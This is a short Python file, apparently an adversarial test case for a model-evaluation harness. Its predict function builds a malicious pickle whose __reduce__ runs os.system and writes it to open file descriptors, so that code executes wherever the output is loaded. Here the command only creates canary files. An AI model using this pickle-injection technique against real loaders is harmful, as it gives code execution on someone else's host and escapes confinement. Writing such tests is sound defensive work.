"""Send a pickle that runs a program where it is loaded, instead of predictions.

catalogue: C6
verdict: bad_output
quick: yes
"""

import os
import pickle

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/hazi-canary-pickle /dev/shm/hazi-canary-pickle",)


def train(train_inputs, train_labels, *, seed):
    return None


def predict(model, inputs):
    if inputs[:, 2].any():
        message = pickle.dumps(Payload())
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, message)
            except OSError:
                continue
    return torch.zeros(len(inputs))
